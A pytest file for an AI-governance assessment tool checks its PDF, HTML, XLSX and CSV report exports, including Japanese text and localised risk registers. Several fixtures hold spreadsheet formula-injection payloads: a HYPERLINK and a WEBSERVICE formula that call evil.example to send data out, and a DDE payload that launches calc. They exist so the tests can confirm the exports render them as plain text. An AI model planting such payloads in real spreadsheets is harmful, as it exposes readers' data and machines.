"""Assessment reports: Japanese text survives into PDF, XLSX has the answers and views."""

from __future__ import annotations

import csv
import io
from typing import Literal

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook
from pypdf import PdfReader

from tekisei.core.assessments import AnswerFields, AnswerState
from tekisei.core.catalog import Relation
from tekisei.core.orgs import OrgActor, OrgCreate, Principal, Role
from tekisei.core.risks import RiskFields, Treatment
from tekisei.core.systems import SystemFacts
from tekisei.db.risks import RiskRow
from tekisei.errors import InvalidInputError, NotFoundError
from tekisei.services import assessments, orgs, reports, risks, systems, users
from tekisei.services.database import Database
from tests.conftest import skip_or_fail
from tests.render.test_sheets import assert_csv_safe, assert_text_only

PASSWORD = "correct horse battery"


@pytest.fixture
def assessed(loaded_db: Database) -> tuple[Database, Principal, int]:
    with loaded_db.transaction() as session:
        orgs.create_org(
            session,
            OrgCreate(name="アクメ株式会社", slug="acme", actors=[OrgActor.BUSINESS]),
            "cli",
        )
        admin = orgs.cli_principal(session, "acme")
        facts = SystemFacts.model_validate(
            {"name": "画像生成サービス", "org_role": "provider", "domain": "content_generation"}
        )
        system_id = systems.register_system(session, admin, facts).id
        row = assessments.start_assessment(session, admin, system_id)
        assessments.answer_requirement(
            session,
            admin,
            row.id,
            "jp-ai-appropriateness-2025:2(3)",
            AnswerFields(state=AnswerState.IMPLEMENTED, notes="電子透かしを全ての画像に付与"),
        )
    return loaded_db, admin, system_id


def test_the_pdf_carries_japanese_text(assessed: tuple[Database, Principal, int]) -> None:
    db, admin, system_id = assessed
    import shutil

    if shutil.which("fc-list") is None:
        skip_or_fail("fontconfig is missing (apt-get install fonts-noto-cjk)")
    with db.reading() as session:
        found = reports.assessment_report(session, admin, system_id, "pdf", "ja")
    assert found.media_type == "application/pdf" and found.content.startswith(b"%PDF")
    pages = PdfReader(io.BytesIO(found.content)).pages
    text = "".join("".join(page.extract_text().split()) for page in pages)  # cells wrap lines
    assert "AIシステムのアセスメント報告書" in text  # the glossary: assessment, not 評価
    assert "電子透かしを全ての画像に付与" in text
    assert "A.6.2.4" in text  # the ISO/IEC 42001 view is included


def test_html_and_xlsx_in_both_languages(assessed: tuple[Database, Principal, int]) -> None:
    db, admin, system_id = assessed
    with db.reading() as session:
        html = reports.assessment_report(session, admin, system_id, "html", "en").content
        xlsx = reports.assessment_report(
            session, admin, system_id, "xlsx", "ja", ("iso-iec-42001-2023", "nist-ai-rmf-1.0")
        ).content
        with pytest.raises(InvalidInputError):
            reports.assessment_report(session, admin, system_id, "docx")
        with pytest.raises(NotFoundError):
            reports.assessment_report(session, admin, system_id, "html", "en", ("nope-1",))
    page = html.decode("utf-8")
    assert "AI system assessment report" in page and "implemented" in page
    book = load_workbook(io.BytesIO(xlsx))
    assert book.sheetnames[1:] == ["iso-iec-42001-2023", "nist-ai-rmf-1.0"]
    answers = book.worksheets[0]
    rows = [[c.value for c in row] for row in answers.iter_rows(min_row=5)]
    assert ["2(3)", "十分な安全性の確保", "実施済み", "電子透かしを全ての画像に付与", None] in rows


EVIL_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_an_answer_that_looks_like_a_formula_stays_text_in_the_xlsx_report(
    assessed: tuple[Database, Principal, int],
) -> None:
    db, admin, system_id = assessed
    with db.transaction() as session:
        row = assessments.current_assessment(session, admin, system_id)
        assessments.answer_requirement(
            session,
            admin,
            row.id,
            "jp-ai-appropriateness-2025:2(4)",
            AnswerFields(state=AnswerState.PARTIAL, notes=EVIL_NOTE),
        )
    with db.reading() as session:
        xlsx = reports.assessment_report(session, admin, system_id, "xlsx", "en").content
    assert_text_only(xlsx, [EVIL_NOTE])


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_risk_register_export_never_writes_a_formula(
    assessed: tuple[Database, Principal, int], fmt: str
) -> None:
    db, admin, system_id = assessed
    titles = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "普通のリスク"]
    with db.transaction() as session:
        member = users.create_user(
            session,
            users.UserCreate(email="o@acme.example", name="@owner", password=PASSWORD),
            "acme",
            Role.EDITOR,
            "cli",
        )
        for title in titles:
            fields = RiskFields(
                title=title.strip() or "x",
                taxonomy=["social.bias"],
                likelihood=3,
                impact=4,
                treatment_plan='=WEBSERVICE("http://evil.example")',
                owner_id=member.id,
            )
            added = risks.add_risk(session, admin, system_id, fields)
        # an owner written as text before owners were members is written as it was
        row = session.get(RiskRow, added.id)
        assert row is not None
        row.owner_id, row.owner_text = None, "@owner"
    with db.reading() as session:
        found = reports.risk_register(session, admin, fmt, "ja")
        with pytest.raises(InvalidInputError):
            reports.risk_register(session, admin, "pdf", "ja")
    assert found.filename == f"risks-acme.{fmt}"
    stored = [t.strip() for t in titles]
    if fmt == "xlsx":
        assert_text_only(found.content, [*stored, "@owner", "o@acme.example"])
        sheet = load_workbook(io.BytesIO(found.content)).worksheets[0]
        assert [c.value for c in sheet[1]][:3] == ["ID", "AIシステム", "リスク名"]
        assert len(list(sheet.iter_rows())) == 1 + len(titles)
    else:
        text = found.content.decode("utf-8-sig")
        assert_csv_safe(text)
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 1 + len(titles)
        assert {r[2] for r in rows[1:]} == {"'" + t if t != "普通のリスク" else t for t in stored}
        owner = rows[0].index("担当者")
        assert {r[owner] for r in rows[1:]} == {"o@acme.example", "'@owner"}


def test_the_report_names_the_organisation_not_its_slug(
    assessed: tuple[Database, Principal, int],
) -> None:
    db, admin, system_id = assessed
    with db.reading() as session:
        pages = {
            lang: reports.assessment_report(session, admin, system_id, "html", lang).content
            for lang in ("ja", "en")
        }
        assert reports.assessment_report(session, admin, system_id, "pdf").filename.endswith(".pdf")
    for page in pages.values():
        header = BeautifulSoup(page, "html.parser").select_one("#header")
        assert header is not None
        assert header.select_one("#org").get_text() == "アクメ株式会社"  # type: ignore[union-attr]
        assert "acme" not in header.get_text()


@pytest.mark.parametrize(
    ("lang", "words"),
    [
        ("ja", {"同等", "この項目が相手の一部", "この項目が相手を含む", "重なり", "関連"}),
        ("en", {"equal", "subset", "superset", "intersect", "related"}),
    ],
)
def test_crosswalk_relations_are_words_of_the_report_language(
    assessed: tuple[Database, Principal, int], lang: Literal["ja", "en"], words: set[str]
) -> None:
    db, admin, system_id = assessed
    with db.reading() as session:
        html = reports.assessment_report(session, admin, system_id, "html", lang).content
        xlsx = reports.assessment_report(session, admin, system_id, "xlsx", lang).content
    shown = {
        span.get_text(): span["data-relation"]
        for span in BeautifulSoup(html, "html.parser").select(".view .relation")
    }
    assert shown and set(shown) <= words  # the page's words, never '(intersect)'
    assert set(shown.values()) <= {r.value for r in Relation}
    view = load_workbook(io.BytesIO(xlsx))["iso-iec-42001-2023"]
    sources = " ".join(str(c.value) for c in view["D"][1:] if c.value)
    assert any(f"({word})" in sources for word in words)
    if lang == "ja":
        assert not any(f"({r.value})" in sources for r in Relation)


def test_the_workbook_shows_percentages_and_a_dash_where_nothing_applies(
    assessed: tuple[Database, Principal, int],
) -> None:
    db, admin, system_id = assessed
    with db.reading() as session:
        xlsx = reports.assessment_report(session, admin, system_id, "xlsx", "en").content
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    assert (sheet["A1"].value, sheet["B1"].value) == ("AI system", "画像生成サービス")
    assert sheet["A2"].value == "Completeness" and sheet["B2"].number_format == "0.0%"
    assert 0 < sheet["B2"].value < 1  # one requirement of many answered, as a number
    assert sheet["D2"].value == 1 and sheet["D2"].number_format == "0.0%"  # 1 of 1 applies
    assert [c.value for c in sheet[4]] == [
        "Section", "Requirement", "Answer", "Notes and reasons", "Evidence",
    ]  # fmt: skip
    assert sheet.auto_filter.ref.startswith("A4:E") and sheet.freeze_panes == "A5"
    with db.transaction() as session:
        row = assessments.current_assessment(session, admin, system_id)
        assessments.answer_requirement(
            session,
            admin,
            row.id,
            "jp-ai-appropriateness-2025:2(3)",
            AnswerFields(state=AnswerState.NOT_APPLICABLE, justification="画像は生成しない"),
        )
    with db.reading() as session:
        xlsx = reports.assessment_report(session, admin, system_id, "xlsx", "ja").content
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    assert (sheet["C2"].value, sheet["D2"].value) == ("適合率", "—")  # not 0 %


def test_the_risk_register_speaks_the_readers_language(
    assessed: tuple[Database, Principal, int],
) -> None:
    db, admin, system_id = assessed
    with db.transaction() as session:
        risks.add_risk(
            session,
            admin,
            system_id,
            RiskFields(
                title="偽画像の拡散",
                taxonomy=["social.disinformation"],
                likelihood=3,
                impact=4,
                treatment=Treatment.MITIGATE,
            ),
        )
    with db.reading() as session:
        ja = reports.risk_register(session, admin, "csv", "ja").content.decode("utf-8-sig")
        en = reports.risk_register(session, admin, "xlsx", "en").content
    header, row = list(csv.reader(io.StringIO(ja, newline="")))
    found = dict(zip(header, row, strict=True))
    assert found["リスクの分類"] == "偽・誤情報の生成・拡散"  # its name, not its id
    assert (found["対応方針"], found["状態"]) == ("低減", "対応中")
    sheet = load_workbook(io.BytesIO(en)).worksheets[0]
    assert sheet.title == "Risk register"
    named = {h.value: c.value for h, c in zip(sheet[1], sheet[2], strict=True)}
    assert named["Taxonomy"] == "Mis- and disinformation"
    assert (named["Treatment"], named["Status"]) == ("mitigate", "treating")


PASSWORD = "correct horse battery"
